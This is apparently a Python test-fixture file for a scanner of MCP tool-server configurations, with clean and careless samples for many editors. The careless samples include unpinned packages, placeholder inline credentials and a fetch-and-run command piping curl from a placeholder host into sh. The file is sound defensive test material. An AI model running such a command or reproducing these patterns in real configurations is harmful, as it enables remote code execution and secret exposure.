"""Configurations of tool servers: whose they are, what they run, and what is careless in them.
Credentials are made up of repeated letters."""
import json

from sample import Sample

PIN, KEY, UNPINNED = "mcp-package-unpinned", "mcp-inline-credential", "image-unpinned"
SECRET = "sk-" + "a1b2c3d4" * 5


def server(*words, **more):
    return {"command": words[0], "args": list(words[1:]), **more}


def dump(servers, key="mcpServers"):
    return json.dumps({key: servers}, indent=2)


def package(name):
    return f"package {name}"


def clean():
    yield ".mcp.json", dump({"a": server("npx", "-y", "@example/server@1.2.3")}), {
        "service a", package("npm:@example/server@1.2.3")}, set()
    yield ".cursor/mcp.json", dump({"a": server("uvx", "tool==1.0")}), {
        "service a", package("pypi:tool@1.0")}, set()
    yield "from/mcp.json", dump({"a": server("uvx", "--from", "tool==1.0", "serve")}), {
        "service a", package("pypi:tool@1.0")}, set()
    yield "at/mcp.json", dump({"a": server("uvx", "tool@2.0")}), {
        "service a", package("pypi:tool@2.0")}, set()
    yield "http/mcp.json", dump({"a": {"type": "http", "url": "https://mcp.example.invalid/x"}}), {
        "service a"}, set()
    yield "here/mcp.json", dump({"a": {"url": "http://localhost:8000/sse"}}), {"service a"}, set()
    yield "python/mcp.json", dump({"a": server("python", "-m", "mine")}), {"service a"}, set()
    yield "file/mcp.json", dump({"a": server("npx", "./server.js")}), {"service a"}, set()
    yield "digest/mcp.json", dump({"a": server("docker", "run", "-i", "--rm", "-e", "X", "example/t:1@sha256:" + "0" * 64)}), {
        "service a", "image docker:example/t@sha256:" + "0" * 64}, set()
    yield "reference/mcp.json", dump({"a": server("node", "s.js", env={"API_KEY": "${API_KEY}", "TOKEN": "your-token-here", "MODE": "fast"})}), {
        "service a"}, set()
    yield "vs/.vscode/mcp.json", """{
  // the servers of this folder
  "inputs": [],
  "servers": { "a": { "type": "stdio", "command": "npx", "args": ["-y", "t@1.0.0",], }, },
}""", {"service a", package("npm:t@1.0.0")}, set()
    yield "zed/settings.json", dump({"a": {"command": {"path": "npx", "args": ["t@1.0.0"]}}}, "context_servers"), {
        "service a", package("npm:t@1.0.0")}, set()
    yield "oc/opencode.json", json.dumps({"mcp": {"a": {"type": "local", "command": ["bun", "x", "t@1.0.0"]}}}), {
        "service a", package("npm:t@1.0.0")}, set()
    yield "codex/.codex/config.toml", '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "t@1.0.0"]\n', {
        "service a", package("npm:t@1.0.0")}, set()
    yield "cont/.continue/config.yaml", "mcpServers:\n  - name: a\n    command: uvx\n    args: [t==1.0]\n", {
        "service a", package("pypi:t@1.0")}, set()
    yield "home/.claude.json", json.dumps({"projects": {"/x": {"mcpServers": {"a": server("npx", "t@1.0.0")}}}}), {
        "service a", package("npm:t@1.0.0")}, set()
    yield "any-name.json", dump({"a": server("npx", "t@1.0.0")}), {
        "service a", package("npm:t@1.0.0")}, set()
    yield "deno/mcp.json", dump({"a": server("deno", "run", "-A", "--config", "d.json", "npm:@s/t@1.0.0/bin", "npm:x@1.0.0"),
                                 "b": server("deno", "run", "https://e.invalid/s.ts")}), {
        "service a", "service b", package("npm:@s/t@1.0.0")}, set()
    yield "plug/.claude-plugin/plugin.json", json.dumps({
        "name": "plug", "version": "1.2.0", "author": {"name": "A"}, "mcpServers": {"a": server("npx", "t@1.0.0")}}), {
        "agent plug@1.2.0", "service a", package("npm:t@1.0.0")}, set()
    yield "with/mcp.json", dump({"a": server("uv", "run", "--with", "t==1.0", "s.py")}), {
        "service a", package("pypi:t@1.0")}, set()


def careless():
    yield "range/mcp.json", dump({"a": server("npx", "-y", "t")}), {"service a", "package npm:t"}, {PIN}
    yield "latest/mcp.json", dump({"a": server("npx", "-y", "@e/t@latest")}), {
        "service a", "package npm:@e/t"}, {PIN}
    yield "uvx/mcp.json", dump({"a": server("uvx", "t")}), {"service a", "package pypi:t"}, {PIN}
    yield "least/mcp.json", dump({"a": server("uvx", "t>=1.0")}), {"service a", "package pypi:t >=1.0"}, {PIN}
    yield "pipx/mcp.json", dump({"a": server("pipx", "run", "--spec", "t", "serve")}), {
        "service a", "package pypi:t"}, {PIN}
    yield "windows/mcp.json", dump({"a": server("cmd", "/c", "npx", "-y", "t")}), {
        "service a", "package npm:t"}, {PIN}
    yield "shell/mcp.json", dump({"a": server("bash", "-lc", "export X=1 && exec npx -y 't'")}), {
        "service a", "package npm:t"}, {PIN}
    yield "one/mcp.json", dump({"a": {"command": "npx -y t"}}), {"service a", "package npm:t"}, {PIN}
    yield "path/mcp.json", dump({"a": server("C:\\\\bin\\\\npx.cmd", "-y", "t")}), {
        "service a", "package npm:t"}, {PIN}
    yield "env/mcp.json", dump({"a": server("env", "A=b", "npx", "t")}), {"service a", "package npm:t"}, {PIN}
    yield "two/mcp.json", dump({"a": server("npx", "-p", "t@1.0.0", "-p", "u", "run")}), {
        "service a", "package npm:t@1.0.0", "package npm:u"}, {PIN}
    yield "key/mcp.json", dump({"a": server("node", "s.js", env={"X": SECRET})}), {"service a"}, {KEY}
    yield "key-name/mcp.json", dump({"a": server("node", "s.js", env={"DB_PASSWORD": "hunter22x"})}), {
        "service a"}, {KEY}
    yield "header/mcp.json", dump({"a": {"url": "https://e.invalid", "headers": {"Authorization": "Bearer 0123456789abcdef"}}}), {
        "service a"}, {KEY}
    yield "argument/mcp.json", dump({"a": server("node", "s.js", "--api-key", "0123456789abcdef")}), {"service a"}, {KEY}
    yield "address/mcp.json", dump({"a": {"url": "https://e.invalid/?api_key=0123456789abcdef"}}), {"service a"}, {KEY}
    yield "plain/mcp.json", dump({"a": {"url": "http://e.invalid/sse"}}), {"service a"}, {"mcp-plain-http"}
    yield "tunnel/mcp.json", dump({"a": {"url": "https://abc.trycloudflare.com/mcp"}}), {
        "service a"}, {"mcp-tunnel"}
    yield "fetch/mcp.json", dump({"a": server("sh", "-c", "curl -s https://e.invalid/i.sh | sh")}), {
        "service a"}, {"mcp-fetch-and-run"}


def samples():
    for name, text, components, rules in clean():
        yield Sample("ok", name, text.encode(), rules=rules, components=components)
    for name, text, components, rules in careless():
        yield Sample("evil", name, text.encode(), rules=rules, verdict="review", components=components)
    yield Sample("ok", "tag/mcp.json", dump({"a": server("docker", "run", "-i", "example/t:1")}).encode(),
                 rules={UNPINNED}, components={"service a", "image docker:example/t@1"})
    yield Sample("ok", "no/servers.json", b'{"servers": {"a": {"url": "https://e.invalid"}}}', status="skipped", components=set())
    yield Sample("ok", "no/package.json", b'{"mcp": {"x": 1}, "mcpServers": []}', status="skipped", components=set())
    yield Sample("bad", "cut/.mcp.json", dump({"a": server("npx", "t@1.0.0")}).encode()[:-3],
                 rules={"malformed"}, components={"service a", "package npm:t@1.0.0"})
    yield Sample("bad", "nothing/.mcp.json", b'{"mcpServers": {"a": ', rules={"malformed"}, components=set())
